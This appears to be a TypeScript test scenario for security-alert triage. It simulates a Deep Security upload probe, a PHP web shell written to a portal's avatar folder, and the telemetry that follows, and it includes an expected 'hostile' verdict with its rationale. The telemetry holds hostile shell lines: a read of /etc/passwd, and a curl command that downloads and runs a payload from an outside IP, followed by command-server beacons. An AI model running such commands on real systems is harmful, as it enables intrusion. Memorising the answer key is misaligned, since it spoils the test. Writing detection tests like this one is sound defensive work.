// Deep Security notes a new file in the web portal; a day before somebody had probed its upload, and now the file runs commands.
import { alert, connected, hostile, ran, situation, wrote } from '../../shorthand.ts'

export const deepSecurityWebContentChangedAfterAProbe = situation(
  'deep-security-web-content-changed-after-a-probe',
  'carry-over',
  'Deep Security: Web content changed',
  (setting) => {
    const server = setting.machine('srv-web-01')
    const probed = setting.ago({ days: 1, hours: 4 })
    const at = setting.ago({ hours: 2, minutes: 13 })
    const source = '194.87.31.205'
    const page = setting.file('thumb_cache.php')
    const folder = '/var/www/portal/public/uploads/avatars'
    const minute = 60_000
    const common = (time: number, id: number) => ({
      EventType: id === 1 ? 'PayloadLog' : 'IntegrityEvent',
      EventID: setting.seeded.number(`ds event ${id}`, 10_000_000, 99_999_999),
      HostID: 41,
      Hostname: server.dnsName,
      HostAgentGUID: setting.seeded.guid('ds agent').toUpperCase(),
      HostAgentVersion: '20.0.1.19250',
      HostAssetValue: 10,
      HostGroupName: 'DMZ Gothenburg',
      HostOS: 'Ubuntu Linux 22 (64 bit) (5.15.0-124-generic)',
      HostSecurityPolicyName: 'Linux web servers',
      HostLastIPUsed: server.ip,
      LogDate: setting.iso(time),
      ManagerNodeID: 1,
      ManagerNodeName: 'dsm-got-01',
      TenantID: 0,
      TenantName: 'Primary',
      OriginString: 'Agent',
      Origin: 0,
      Tags: '',
    })
    const shell = (time: number, command: string) =>
      ran(server, time, 'sh', command, {
        AccountName: 'www-data',
        AccountDomain: server.host,
        FolderPath: '/usr/bin',
        InitiatingProcessFileName: 'php-fpm8.1',
        InitiatingProcessCommandLine: 'php-fpm: pool portal',
        InitiatingProcessAccountName: 'www-data',
      })
    return {
      alerts: [
        alert(setting, probed + 20_000, 'trend_deep_security', '1011456 - Unrestricted File Upload Over HTTP', {
          Type: 'Notification',
          TopicArn: 'ds-events',
          Message: [
            {
              ...common(probed, 1),
              Reason: '1011456 - Unrestricted File Upload Over HTTP',
              Action: 0,
              ActionString: 'Log',
              Severity: 2,
              SeverityString: 'Medium',
              Rank: 50,
              SourceIP: source,
              SourcePort: 51_882,
              DestinationIP: server.ip,
              DestinationPort: 443,
              Direction: 0,
              DirectionString: 'Incoming',
              Protocol: 6,
              ProtocolString: 'TCP',
              Interface: server.mac,
              Flags: 'ACK PSH DF=1',
              PayloadHex: Buffer.from('POST /account/avatar HTTP/1.1 filename="a.php.png"').toString('hex'),
              RuleDescription:
                'Looks for uploads of files with more than one ending, of which one is run by the web server. Scanners and careless forms cause it as well.',
              Application: 'Web Server Common',
              CVE: [],
              CVSS: 7.5,
              Links: {
                event: 'https://dsm-got-01.havskoginstruments.com:4119/DPIEvents.screen',
                host: 'https://dsm-got-01.havskoginstruments.com:4119/HostEditor.screen?hostID=41',
              },
              Forwarding: { sns: 'ds-events', filter: 'PayloadLog AND HostGroupName = DMZ*', mail: '' },
              Detail: 'Prevention mode is off for this rule (detect only).',
              Repeat: 6,
            },
          ],
        }),
        alert(setting, at + 90_000, 'trend_deep_security', '1003513 - Web Content - File created or modified', {
          Type: 'Notification',
          TopicArn: 'ds-events',
          Message: [
            {
              ...common(at, 2),
              Reason: '1003513 - Web Content - File created or modified',
              RuleDescription:
                'Monitors directories that a web server delivers. Changes are usual after a release of the site and should be compared with it.',
              Severity: 2,
              SeverityString: 'Medium',
              Rank: 20,
              Change: 1,
              ChangeString: 'Created',
              EntityType: 'File',
              Key: `${folder}/thumb_cache.php`,
              User: 'www-data',
              Process: '/usr/sbin/php-fpm8.1',
              Attributes: {
                created: setting.iso(at),
                lastModified: setting.iso(at),
                size: 4118,
                owner: 'www-data',
                group: 'www-data',
                permissions: '-rw-r--r--',
                sha1: page.sha1,
                sha256: page.sha256,
              },
              Baseline: { built: setting.iso(setting.ago({ days: 5 })), entities: 18_204 },
              RealTime: true,
              RecommendedSeverity: 'Low',
              RuleID: 1_003_513,
              RuleVersion: '20-014',
              MITRE: [],
              OSSECDecoder: null,
              Links: {
                event: 'https://dsm-got-01.havskoginstruments.com:4119/IntegrityEvents.screen',
                host: 'https://dsm-got-01.havskoginstruments.com:4119/HostEditor.screen?hostID=41',
              },
              Forwarding: {
                sns: 'ds-events',
                filter: 'IntegrityEvent AND HostGroupName = DMZ*',
                mail: 'it-larm@havskoginstruments.com',
              },
              Acknowledged: false,
            },
          ],
        }),
      ],
      facts: {
        intelligence: [
          setting.risk('ip', source, 79, [
            ['Recent Web Attack Source', 3, 'Uploaded web shells to four honeypots this week.'],
            ['Suspicious Hosting', 1, 'Rented servers.'],
          ]),
        ],
        telemetry: [
          connected(server, probed, source, {
            ActionType: 'InboundConnectionAccepted',
            LocalPort: 443,
            InitiatingProcessFileName: 'nginx',
          }),
          connected(server, at - 8000, source, {
            ActionType: 'InboundConnectionAccepted',
            LocalPort: 443,
            InitiatingProcessFileName: 'nginx',
          }),
          wrote(server, at, 'thumb_cache.php', folder, page, {
            InitiatingProcessFileName: 'php-fpm8.1',
            InitiatingProcessAccountName: 'www-data',
            FileSize: 4118,
          }),
          shell(at + 3 * minute, 'sh -c id; uname -a; cat /etc/passwd'),
          shell(
            at + 5 * minute,
            'sh -c curl -fsSL http://45.138.16.203/l/k -o /dev/shm/.k && chmod +x /dev/shm/.k && /dev/shm/.k',
          ),
          connected(server, at + 5 * minute + 2000, '45.138.16.203', {
            RemotePort: 80,
            InitiatingProcessFileName: 'curl',
            InitiatingProcessCommandLine: 'curl -fsSL http://45.138.16.203/l/k -o /dev/shm/.k',
            InitiatingProcessAccountName: 'www-data',
          }),
          ...[8, 38, 68, 98].map((later) =>
            connected(server, at + later * minute, '45.138.16.203', {
              RemotePort: 8443,
              InitiatingProcessFileName: '.k',
              InitiatingProcessCommandLine: '/dev/shm/.k',
              InitiatingProcessAccountName: 'www-data',
            }),
          ),
          ran(
            server,
            setting.ago({ days: 5, hours: 1 }),
            'rsync',
            'rsync -a --delete /srv/releases/portal-5.12/ /var/www/portal/',
            {
              AccountName: 'svc-deploy',
              FolderPath: '/usr/bin',
              InitiatingProcessFileName: 'sshd',
            },
          ),
        ],
      },
      expected: hostile(server.host),
      because:
        'No release was made: the web process itself wrote a PHP file into the pictures of users, from the address that had tried the upload the day before and that sends web shells elsewhere. Minutes later the same process ran commands, fetched a program from a known command server and keeps talking to it.',
    }
  },
)
